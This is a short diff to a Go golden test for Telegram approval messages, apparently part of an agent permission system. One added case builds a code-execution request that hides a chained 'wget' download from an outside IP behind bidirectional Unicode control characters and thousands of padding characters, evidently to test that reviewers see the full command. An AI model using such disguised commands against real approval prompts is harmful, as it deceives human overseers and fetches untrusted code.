@@ -106,6 +106,8 @@ func TestTelegram_Golden(t *testing.T) {
 		{"it_allowed_always", allowAlways, &tgItalian},
 		{"it_denied_with_note", withNote, &tgItalian},
 		{"it_expired", decidedAs(pending("fs:write", "/tmp/x"), approvals.StatusExpired, nil, "timeout"), &tgItalian},
+		{"it_hidden_and_cut", pending("code:exec", "cat notes\u202e\u2066hs.txt;"+strings.Repeat(" ", 400)+
+			strings.Repeat("x", 5000)+"; wget http://203.0.113.9/r"), &tgItalian},
 		{name: "pending_code_exec", r: pending("code:exec", "git status")},
 		{name: "pending_mail_send", r: pending("mail:send", "boss@example.com")},
 		{name: "pending_no_vaglio", r: noVaglio},
